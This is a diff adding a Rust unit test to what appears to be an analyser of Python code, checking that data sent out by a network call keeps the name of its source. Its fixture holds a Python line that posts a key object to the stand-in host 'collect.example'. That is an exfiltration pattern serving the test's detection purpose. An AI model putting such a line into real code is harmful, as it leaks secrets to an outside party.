@@ -442,3 +442,10 @@ fn a_temporary_file_keeps_its_mode_and_takes_its_suffix_by_place_or_by_name() {
     let placed = event("import tempfile\ntempfile.mkstemp('.bat', 'a')", "tempfile.mkstemp");
     assert!(placed.text(Role::Path).is_some_and(|p| p.ends_with(".bat")), "{placed:?}");
 }
+
+#[test]
+fn the_text_of_something_from_outside_keeps_its_name() {
+    let source =
+        "import acme, requests\nkey = acme.Key()\nrequests.post('https://collect.example', data=str(key))";
+    assert_eq!(event(source, "requests.post").text(Role::Data), Some("⟨acme.Key()⟩"));
+}
